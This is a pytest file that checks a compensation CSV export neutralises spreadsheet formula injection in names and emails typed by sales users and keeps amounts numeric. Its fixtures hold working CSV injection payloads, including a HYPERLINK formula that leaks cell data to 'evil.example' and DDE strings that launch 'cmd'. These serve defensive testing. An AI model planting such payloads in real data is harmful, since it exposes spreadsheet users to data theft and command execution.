"""The finance CSV export: what a salesperson typed never runs as a spreadsheet formula, and
amounts stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest

from services.access.api_keys import create_api_key
from tests.support import GraphQLClient, approve_deal_input, hold_sales, http_as
from web.exports import COLUMNS, NUMBER, TEXT, spreadsheet_text

# Names a SALES key may give people and engagements, each starting the way a spreadsheet
# reads as a formula (OWASP's list), and one that is harmless but needs quoting.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
HARMLESS = 'Sam "the closer" Seller, jr.'
EMAILS = ("=1+1@evil.example", "+1@evil.example", "-1@evil.example")


async def _create(client: GraphQLClient, name: str, input: dict[str, Any], field: str) -> str:
    payload = await client.mutate(name, input, f"{field} {{ id }}")
    assert payload["userErrors"] == [], payload["userErrors"]
    return str(payload[field]["id"])


async def _clawed_back_sale(admin: GraphQLClient, sales: GraphQLClient) -> dict[str, Any]:
    """A SALES key names the client, five salespeople and the engagement; the sale is then
    credited to the five, booked, and completed at a cost that claws pay back."""
    client_id = await _create(
        sales, "createOrganization", {"name": FORMULAS[0], "kind": "CLIENT"}, "organization"
    )
    people = []
    for index, name in enumerate((*FORMULAS, HARMLESS)):
        email = EMAILS[index] if index < 3 else f"seller{index}@fourway.example"
        people.append(
            await _create(
                sales,
                "createPerson",
                {"name": name, "email": email, "organizationId": client_id},
                "person",
            )
        )
    sponsor = await _create(
        admin,
        "createPerson",
        {"name": "Ada Sponsor", "email": "ada@client.example", "organizationId": client_id},
        "person",
    )
    engagement = await _create(
        sales,
        "createEngagement",
        {"name": FORMULAS[0], "clientId": client_id, "currency": "EUR"},
        "engagement",
    )
    plan = await admin.mutate(
        "createCommissionPlan",
        {"name": "Standard", "rateOnMargin": "0.10", "marginFloorPct": "0.20", "isDefault": True},
        "commissionPlan { id }",
    )
    assert plan["userErrors"] == []
    await hold_sales(admin, engagement, *people)
    credits = await admin.mutate(
        "setEngagementCredits",
        {
            "engagementId": engagement,
            "credits": [{"personId": p, "splitPct": "0.2"} for p in people],
        },
        "credits { splitPct }",
    )
    assert credits["userErrors"] == []
    side = {"engagementId": engagement, "item": "build", "description": "Build it"}
    await _create(
        admin,
        "createPromise",
        {**side, "quantity": "100", "quotedAmount": "100000", "madeById": people[-1]},
        "promise",
    )
    await _create(
        admin,
        "createPurchase",
        {
            **side,
            "quantity": "100",
            "amount": "100000",
            "estimatedCost": "60000",
            "signedAt": "2026-11-02T10:00:00+00:00",
        },
        "purchase",
    )
    sold = await admin.mutate("approveDeal", approve_deal_input(engagement), "engagement { id }")
    assert sold["userErrors"] == []
    # 15,000 over the estimate on a promise nobody from delivery signed off: a clawback.
    await _create(
        admin,
        "createDeliverable",
        {
            **side,
            "quantity": "100",
            "status": "ACCEPTED",
            "acceptedById": sponsor,
            "acceptedAt": "2026-11-20T10:00:00+00:00",
            "actualCost": "75000",
        },
        "deliverable",
    )
    return {"people": people, "engagement": engagement}


async def test_names_a_salesperson_typed_cannot_run_as_formulas_in_the_export(client, settings):
    sales_key = await create_api_key(name="sales", role="SALES")
    async with http_as(settings, sales_key.key) as http:
        await _clawed_back_sale(client, GraphQLClient(http))
    finance_key = await create_api_key(name="finance", role="FINANCE")
    async with http_as(settings, finance_key.key) as http:
        response = await http.get(
            "/exports/compensation.csv", params={"period": datetime.now(UTC).strftime("%Y-%m")}
        )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert {r["kind"] for r in rows} >= {"BOOKED", "ADJUSTED"}

    # Every cell a SALES key wrote is there, neutralised where it would start a formula.
    by_name = {r["salesperson_name"]: r for r in rows if r["kind"] == "ADJUSTED"}
    assert set(by_name) == {"'" + name for name in FORMULAS} | {HARMLESS}
    emails = {r["salesperson_email"] for r in rows}
    assert emails >= {"'" + email for email in EMAILS[:3]}
    assert {r["engagement_name"] for r in rows} == {"'" + FORMULAS[0]}
    for row in rows:
        for column, kind in COLUMNS.items():
            if kind is TEXT:
                assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, row)

    # Amounts stay numbers, negative ones included: exactly as the API writes them.
    clawbacks = [r["amount"] for r in rows if r["kind"] == "ADJUSTED"]
    assert clawbacks == ["-300.00"] * 5
    booked = {(r["rate"], r["split"], r["margin_pct"]) for r in rows if r["kind"] == "BOOKED"}
    assert booked == {("0.10", "0.20", "0.40")}
    paid = sum(Decimal(r["amount"]) for r in rows if r["kind"] in ("BOOKED", "ADJUSTED"))
    assert paid == Decimal("2500.00")

    # Text cells are always quoted and numbers never are: a reader that turns every unquoted
    # field into a number takes the header and text as text and every amount as a number.
    header, *typed = list(csv.reader(io.StringIO(response.text), quoting=csv.QUOTE_NONNUMERIC))
    assert header == list(COLUMNS)
    for values in typed:
        for (column, kind), value in zip(COLUMNS.items(), values, strict=True):
            assert isinstance(value, str if kind is TEXT else float), (column, value)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Sam Seller", "Sam Seller"),
        ("1+1", "1+1"),
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_would_read_as_a_formula_is_prefixed(text, cell):
    assert spreadsheet_text(text) == cell


def test_every_column_is_declared_a_number_or_text():
    assert {c for c, kind in COLUMNS.items() if kind is NUMBER} == {
        "revenue",
        "cost",
        "margin",
        "margin_pct",
        "rate",
        "split",
        "amount",
        "pay",
        "held",
    }
